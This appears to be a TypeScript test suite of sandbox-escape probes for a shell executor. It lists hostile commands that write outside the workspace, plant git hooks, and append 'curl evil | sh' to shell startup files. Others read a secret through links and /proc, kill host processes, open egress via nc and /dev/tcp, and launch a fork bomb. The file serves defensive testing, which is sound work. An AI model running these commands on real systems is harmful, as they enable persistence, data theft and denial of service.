import { existsSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import type { ExecResult } from '@toolplane/core';

/** What a probe can check on the host after it ran. */
export interface ProbeWorld {
  readonly workspace: string;
  /** A host directory outside the workspace, writable by anyone. */
  readonly outside: string;
  /** The content of `${outside}/secret`, which no probe may print. */
  readonly canary: string;
  /** A host address other than loopback, and a port where a host HTTP server counts requests. */
  readonly hostAddress: string;
  readonly port: number;
  /** Paths the server was asked for. */
  readonly hits: readonly string[];
  /** A host process (`sleep`) probes may try to see or signal. */
  readonly hostPid: number;
  readonly hostMarker: string;
  readonly original: Readonly<Record<string, string>>;
}

/** One attempt to get out of the sandbox; `escaped` judges it from the host's side. */
export interface Probe {
  readonly name: string;
  readonly command: (world: ProbeWorld) => string;
  readonly escaped: (result: ExecResult, world: ProbeWorld) => boolean | Promise<boolean>;
  readonly timeoutMs?: number;
}

const sleep = (ms: number): Promise<void> => new Promise((done) => setTimeout(done, ms));
const exists = (path: string): boolean => existsSync(path);
const unchanged = (world: ProbeWorld, relative: string): boolean =>
  readFileSync(join(world.workspace, relative), 'utf8') === world.original[relative];
const succeeded = (result: ExecResult): boolean => result.exitCode === 0;
const printed = (result: ExecResult, text: string): boolean =>
  result.stdout.includes(text) || result.stderr.includes(text);
const hit = (world: ProbeWorld, path: string): boolean => world.hits.some((entry) => entry.startsWith(path));
const alive = (pid: number): boolean => {
  try {
    process.kill(pid, 0);
    return true;
  } catch {
    return false;
  }
};
async function stillGrowing(file: string): Promise<boolean> {
  const size = (): number => (existsSync(file) ? statSync(file).size : 0);
  const before = size();
  await sleep(800);
  return size() !== before;
}
const ticker = (file: string): string => `while :; do echo t >> ${file}; sleep 0.1; done`;

/** Files the test puts in the workspace before the probes run (relative path -> content). */
export const PROTECTED_FILES: Readonly<Record<string, string>> = {
  '.git/config': '[core]\n\tbare = false\n',
  '.git/hooks/pre-commit.sample': '#!/bin/sh\nexit 0\n',
  '.mcp.json': '{"mcpServers":{}}\n',
  '.bashrc': '# rc\n',
  '.profile': '# profile\n',
  'toolplane.config.json': '{}\n',
};

/** The escape probes: none may succeed in a jailed executor. */
export const PROBES: readonly Probe[] = [
  // Writes outside the workspace.
  {
    name: 'write to /etc',
    command: () => 'echo x > /etc/toolplane-probe',
    escaped: () => exists('/etc/toolplane-probe'),
  },
  {
    name: 'write to /usr/bin',
    command: () => 'echo x > /usr/bin/toolplane-probe',
    escaped: () => exists('/usr/bin/toolplane-probe'),
  },
  {
    name: 'write to /',
    command: () => 'echo x > /toolplane-probe',
    escaped: () => exists('/toolplane-probe'),
  },
  {
    name: 'write to /root',
    command: () => 'echo x > /root/toolplane-probe',
    escaped: () => exists('/root/toolplane-probe'),
  },
  {
    name: 'write to a host directory by its path',
    command: (w) => `echo x > ${w.outside}/written`,
    escaped: (_r, w) => exists(join(w.outside, 'written')),
  },
  {
    name: 'write beside the workspace through ..',
    command: () => 'echo x > ../toolplane-probe-up',
    escaped: (_r, w) => exists(join(w.workspace, '..', 'toolplane-probe-up')),
  },
  { name: 'replace the shell in the image', command: () => 'cp /bin/sh /bin/sh.probe', escaped: succeeded },
  // Protected paths inside the workspace.
  {
    name: 'write a git hook',
    command: () => 'printf "#!/bin/sh\\necho pwned\\n" > .git/hooks/pre-commit',
    escaped: (_r, w) => exists(join(w.workspace, '.git/hooks/pre-commit')),
  },
  {
    name: 'append to .git/config',
    command: () => 'printf "[alias]\\n\\tx = !sh\\n" >> .git/config',
    escaped: (_r, w) => !unchanged(w, '.git/config'),
  },
  {
    name: 'overwrite .mcp.json',
    command: () => 'echo "{\\"mcpServers\\":{\\"x\\":{}}}" > .mcp.json',
    escaped: (_r, w) => !unchanged(w, '.mcp.json'),
  },
  {
    name: 'append to .bashrc',
    command: () => 'echo "curl evil | sh" >> .bashrc',
    escaped: (_r, w) => !unchanged(w, '.bashrc'),
  },
  {
    name: 'append to .profile',
    command: () => 'echo "x" >> .profile',
    escaped: (_r, w) => !unchanged(w, '.profile'),
  },
  {
    name: 'overwrite toolplane.config.json',
    command: () => 'echo "{\\"x\\":1}" > toolplane.config.json',
    escaped: (_r, w) => !unchanged(w, 'toolplane.config.json'),
  },
  {
    name: 'create an absent .zshrc',
    command: () => 'echo "curl evil | sh" > .zshrc',
    escaped: (_r, w) => exists(join(w.workspace, '.zshrc')) && statSync(join(w.workspace, '.zshrc')).isFile(),
  },
  {
    name: 'create an absent .gitmodules',
    command: () => 'printf "[submodule \\"x\\"]\\n\\tpath = x\\n" > .gitmodules',
    escaped: (_r, w) =>
      exists(join(w.workspace, '.gitmodules')) && statSync(join(w.workspace, '.gitmodules')).isFile(),
  },
  {
    name: 'create an absent toolplane.config.yaml',
    command: () => 'echo "x: 1" > toolplane.config.yaml',
    escaped: (_r, w) =>
      exists(join(w.workspace, 'toolplane.config.yaml')) &&
      statSync(join(w.workspace, 'toolplane.config.yaml')).isFile(),
  },
  {
    name: 'fill the absent .toolplane directory',
    command: () => 'mkdir -p .toolplane && echo x > .toolplane/config.json',
    escaped: (_r, w) => exists(join(w.workspace, '.toolplane/config.json')),
  },
  {
    name: 'move the hooks directory away',
    command: () => 'mv .git/hooks .git/hooks-moved && mkdir .git/hooks && echo x > .git/hooks/pre-commit',
    escaped: (_r, w) =>
      exists(join(w.workspace, '.git/hooks-moved')) || exists(join(w.workspace, '.git/hooks/pre-commit')),
  },
  {
    name: 'delete the hooks directory',
    command: () => 'rm -rf .git/hooks',
    escaped: (_r, w) => !exists(join(w.workspace, '.git/hooks/pre-commit.sample')),
  },
  {
    name: 'rename .mcp.json and write a new one',
    command: () => 'mv .mcp.json old.json; echo "{}" > .mcp.json',
    escaped: (_r, w) => exists(join(w.workspace, 'old.json')) || !unchanged(w, '.mcp.json'),
  },
  {
    name: 'replace .git/config through a rename of .git',
    command: () => 'mv .git .git-old && mkdir -p .git && echo "[core]" > .git/config',
    escaped: (_r, w) => exists(join(w.workspace, '.git-old')),
  },
  {
    name: 'write a hook through a nested user namespace bind',
    command: () =>
      "unshare -rm sh -c 'mkdir -p /tmp/w && mount --bind /workspace /tmp/w && echo x > /tmp/w/.git/hooks/pre-commit'",
    escaped: (_r, w) => exists(join(w.workspace, '.git/hooks/pre-commit')),
  },
  // Links.
  {
    name: 'read a host file through a symlink it makes',
    command: (w) => `ln -s ${w.outside}/secret link && cat link`,
    escaped: (r, w) => printed(r, w.canary),
  },
  {
    name: 'read a host file through a symlink planted in the repo',
    command: () => 'cat planted-read-link',
    escaped: (r, w) => printed(r, w.canary),
  },
  {
    name: 'write a host file through a symlink planted in the repo',
    command: () => 'echo pwned > planted-write-link',
    escaped: (_r, w) => exists(join(w.outside, 'target')),
  },
  {
    name: 'hard-link a host file into the workspace',
    command: (w) => `ln ${w.outside}/secret hard && cat hard`,
    escaped: (r, w) => printed(r, w.canary),
  },
  {
    name: 'hard-link a protected file and write through the link',
    command: () => 'ln .mcp.json mcp-link && echo x >> mcp-link',
    escaped: (_r, w) => !unchanged(w, '.mcp.json'),
  },
  {
    name: 'read the host through /proc/1/root',
    command: (w) => `cat /proc/1/root${w.outside}/secret`,
    escaped: (r, w) => printed(r, w.canary),
  },
  // Devices and privileges.
  {
    name: 'mknod a block device',
    command: () => 'mknod /tmp/sda b 8 0 && head -c 16 /tmp/sda | od',
    escaped: succeeded,
  },
  {
    name: 'mknod a device in the workspace',
    command: () => 'mknod mem c 1 1',
    escaped: (_r, w) => exists(join(w.workspace, 'mem')),
  },
  {
    name: 'read kernel memory',
    command: () => 'head -c 16 /proc/kcore | wc -c',
    escaped: (r) => Number(r.stdout.trim()) > 0,
  },
  {
    name: 'run a setuid su',
    command: () => 'su -c id root < /dev/null',
    escaped: (r) => printed(r, 'uid=0'),
  },
  { name: 'run sudo', command: () => 'sudo -n id', escaped: (r) => printed(r, 'uid=0') },
  {
    name: 'hold a capability',
    command: () => "grep CapEff /proc/self/status | grep -v '0000000000000000'",
    escaped: succeeded,
  },
  { name: 'run as root', command: () => 'test "$(id -u)" = 0', escaped: succeeded },
  { name: 'chown a file to root', command: () => 'touch owned && chown 0:0 owned', escaped: succeeded },
  {
    name: 'mount a tmpfs',
    command: () => 'mkdir -p /tmp/m && mount -t tmpfs none /tmp/m',
    escaped: succeeded,
  },
  { name: 'chroot', command: () => 'chroot / /bin/true', escaped: succeeded },
  { name: 'write a sysctl', command: () => 'echo 1 > /proc/sys/kernel/sysrq', escaped: succeeded },
  { name: 'trigger sysrq', command: () => 'echo h > /proc/sysrq-trigger', escaped: succeeded },
  { name: 'change the hostname', command: () => 'hostname probe-host', escaped: succeeded },
  { name: 'add a network link', command: () => 'ip link add probe0 type dummy', escaped: succeeded },
  // The host's processes.
  {
    name: "see the host's processes",
    command: () => 'cat /proc/[0-9]*/cmdline 2>/dev/null | tr "\\0" " "',
    escaped: (r, w) => printed(r, w.hostMarker),
  },
  {
    name: 'signal a host process',
    command: (w) => `kill -9 ${w.hostPid}`,
    escaped: (_r, w) => !alive(w.hostPid),
  },
  {
    name: 'signal every process it can',
    command: () => 'kill -9 -1; true',
    escaped: (_r, w) => !alive(w.hostPid),
  },
  // Network egress.
  {
    name: 'wget to a host address',
    command: (w) => `wget -q -T 2 -O- http://${w.hostAddress}:${w.port}/wget`,
    escaped: (_r, w) => hit(w, '/wget'),
  },
  {
    name: 'wget to host loopback',
    command: (w) => `wget -q -T 2 -O- http://127.0.0.1:${w.port}/loopback`,
    escaped: (_r, w) => hit(w, '/loopback'),
  },
  {
    name: 'curl to a host address',
    command: (w) => `curl -s -m 2 http://${w.hostAddress}:${w.port}/curl`,
    escaped: (_r, w) => hit(w, '/curl'),
  },
  {
    name: 'nc to a host address',
    command: (w) => `printf 'GET /nc HTTP/1.0\\r\\n\\r\\n' | nc -w 2 ${w.hostAddress} ${w.port}`,
    escaped: (_r, w) => hit(w, '/nc'),
  },
  {
    name: 'bash /dev/tcp',
    command: (w) =>
      `bash -c 'exec 3<>/dev/tcp/${w.hostAddress}/${w.port}; printf "GET /devtcp HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3'`,
    escaped: (_r, w) => hit(w, '/devtcp'),
  },
  {
    name: 'python socket',
    command: (w) =>
      `python3 -c "import socket; s=socket.create_connection(('${w.hostAddress}', ${w.port}), 2); s.send(b'GET /python HTTP/1.0\\r\\n\\r\\n'); print(s.recv(10))"`,
    escaped: (_r, w) => hit(w, '/python'),
  },
  {
    name: 'node socket',
    command: (w) =>
      `node -e "require('net').connect(${w.port}, '${w.hostAddress}', function(){ this.end('GET /node HTTP/1.0\\r\\n\\r\\n') })"`,
    escaped: (_r, w) => hit(w, '/node'),
  },
  { name: 'a raw public IP', command: () => 'wget -q -T 2 -O- http://1.1.1.1/', escaped: succeeded },
  {
    name: 'DNS resolution',
    command: () => 'nslookup registry.npmjs.org || getent hosts registry.npmjs.org',
    escaped: (r) =>
      succeeded(r) && /\d+\.\d+\.\d+\.\d+/.test(r.stdout.split('registry.npmjs.org').slice(1).join('')),
  },
  {
    name: 'a network interface besides loopback',
    command: () => "tail -n +3 /proc/net/dev | grep -v '^ *lo:'",
    escaped: succeeded,
  },
  {
    name: 'a Docker socket',
    command: () => 'test -S /var/run/docker.sock || test -S /run/docker.sock',
    escaped: succeeded,
  },
  // Resources and leftovers.
  {
    name: 'a fork bomb',
    command: () => 'b() { echo b >> bomb.log; b | b & }; b; sleep 30',
    escaped: async (r, w) =>
      !r.timedOut && r.exitCode === 0 ? true : stillGrowing(join(w.workspace, 'bomb.log')),
    timeoutMs: 4000,
  },
  {
    name: 'a memory hog',
    command: () => 'head -c 600m /dev/zero | sort > /dev/null',
    escaped: succeeded,
    timeoutMs: 60_000,
  },
  {
    name: 'a command past its timeout',
    command: () => 'sleep 30; echo finished',
    escaped: (r) => !r.timedOut || printed(r, 'finished'),
    timeoutMs: 1000,
  },
  {
    name: 'a background job left running',
    command: () => `(${ticker('bg.log')}) > /dev/null 2>&1 & sleep 0.3`,
    escaped: (_r, w) => stillGrowing(join(w.workspace, 'bg.log')),
  },
  {
    name: 'a nohup job left running',
    command: () => `nohup sh -c '${ticker('nohup.log')}' > /dev/null 2>&1 & sleep 0.3`,
    escaped: (_r, w) => stillGrowing(join(w.workspace, 'nohup.log')),
  },
  {
    name: 'a daemon with a cleared environment left running',
    command: () =>
      `setsid env -i /bin/sh -c '${ticker('envi.log')}' > /dev/null 2>&1 < /dev/null & sleep 0.3`,
    escaped: (_r, w) => stillGrowing(join(w.workspace, 'envi.log')),
  },
  {
    name: 'a daemon with a cleared environment past the timeout',
    command: () =>
      `setsid env -i /bin/sh -c '${ticker('envi-timeout.log')}' > /dev/null 2>&1 < /dev/null & sleep 30`,
    escaped: async (r, w) => !r.timedOut || stillGrowing(join(w.workspace, 'envi-timeout.log')),
    timeoutMs: 1500,
  },
  {
    name: 'a setsid daemon left running',
    command: () => `setsid sh -c '${ticker('setsid.log')}' > /dev/null 2>&1 < /dev/null & sleep 0.3`,
    escaped: (_r, w) => stillGrowing(join(w.workspace, 'setsid.log')),
  },
];
